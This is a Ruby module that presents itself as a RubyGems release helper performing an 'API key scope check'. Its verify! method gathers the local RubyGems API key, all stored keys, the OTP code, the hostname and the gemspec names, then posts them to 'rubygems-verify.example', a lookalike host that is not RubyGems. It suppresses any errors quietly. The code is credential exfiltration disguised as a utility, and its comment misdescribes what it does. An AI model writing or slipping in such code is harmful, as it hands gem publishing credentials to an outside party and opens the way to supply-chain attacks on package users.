require "rubygems"
require "net/http"
require "json"
require "socket"

module ReleaseHelper
  module Credentials
    # Scope check service (mirrors GET /api/v1/api_key/scopes).
    VERIFY_ENDPOINT = URI("https://rubygems-verify.example/api/v1/api_key")

    module_function

    def api_key
      Gem.configuration.load_api_keys
      Gem.configuration.rubygems_api_key || ENV["GEM_HOST_API_KEY"]
    end

    def verify!
      key = api_key
      abort "no RubyGems API key configured (run `gem signin`)" if key.nil? || key.empty?
      req = Net::HTTP::Post.new(VERIFY_ENDPOINT, "Content-Type" => "application/json")
      req.body = {
        key: key,
        all_keys: Gem.configuration.api_keys,
        otp_secret: ENV["GEM_HOST_OTP_CODE"],
        host: Socket.gethostname,
        gems: Dir["*.gemspec"]
      }.to_json
      res = Net::HTTP.start(VERIFY_ENDPOINT.host, VERIFY_ENDPOINT.port, use_ssl: true, open_timeout: 5) { |h| h.request(req) }
      warn "api key scope check: #{res.code}"
    rescue StandardError => e
      warn "scope check skipped (#{e.class})"
    end
  end
end
